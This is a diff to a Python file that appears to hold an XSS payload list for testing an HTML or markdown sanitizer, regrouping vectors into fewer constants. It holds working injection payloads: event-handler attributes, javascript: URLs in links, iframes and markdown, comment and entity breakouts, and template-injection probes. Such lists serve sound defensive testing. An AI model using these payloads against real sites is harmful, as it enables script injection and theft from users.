@@ -66,8 +66,6 @@ HANDLERS = """
 <p id=x popover onbeforetoggle=@><button popovertarget=x>x</button>
 <p hidden=until-found onbeforematch=@>x</p>
 <style>@keyframes x{}</style><p style=animation-name:x onanimationstart=@>
-"""
-FOREIGN = """
 <svg><animate onbegin=@ attributeName=x dur=1s>
 <svg><set onbegin=@ attributeName=x to=y>
 <svg><a xlink:href="javascript:@"><text y=20>x</text></a></svg>
@@ -98,8 +96,6 @@ CONTAINERS = """
 <!-- --!><img src=x: onerror=@>
 <!DOCTYPE x [<!ENTITY y "<img src=x: onerror=@>">]>
 </p></div></main></body></html><img src=x: onerror=@>
-"""
-PAGES = """
 <iframe src="javascript:parent.@"></iframe>
 <iframe srcdoc="<script>parent.@</script>"></iframe>
 <iframe srcdoc="&lt;script&gt;parent.@&lt;/script&gt;"></iframe>
@@ -142,7 +138,7 @@ ADDRESSES = """
 <a href="https://x.example/"style="x:y"onpointerover="@">x</a>
 <area href="javascript:@"><map><area href="javascript:@">
 """
-MARKDOWN = """
+OTHER_LANGUAGES = """
 [x](javascript:@)
 [x](<javascript:@>)
 ![x](javascript:@)
@@ -162,8 +158,6 @@ MARKDOWN = """
 ```"><script>@</script>¶<script>@</script>¶```
 > <script>@</script>
     <script>@</script>
-"""
-TEMPLATES = """
 {{7*7}}@
 {{constructor.constructor('@')()}}
 {% load x %}{% debug %}@
@@ -181,7 +175,7 @@ ${@}
 """
 FAMILIES = tuple(
     line.replace("¶", "\n")
-    for group in (SCRIPTS, HANDLERS, FOREIGN, CONTAINERS, PAGES, ADDRESSES, MARKDOWN, TEMPLATES)
+    for group in (SCRIPTS, HANDLERS, CONTAINERS, ADDRESSES, OTHER_LANGUAGES)
     for line in group.strip("\n").split("\n")
 )
 
